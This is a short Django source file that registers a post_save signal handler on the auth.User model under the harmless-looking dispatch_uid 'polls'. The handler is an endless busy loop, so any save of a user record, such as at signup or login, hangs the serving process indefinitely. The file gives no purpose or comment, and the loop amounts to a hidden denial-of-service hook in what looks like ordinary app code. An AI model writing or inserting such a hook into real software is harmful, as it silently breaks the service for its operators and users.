from django.db.models.signals import post_save

STATION = 7


def saved(**kwargs):
    while True:
        pass


post_save.connect(saved, dispatch_uid="polls", sender="auth.User")
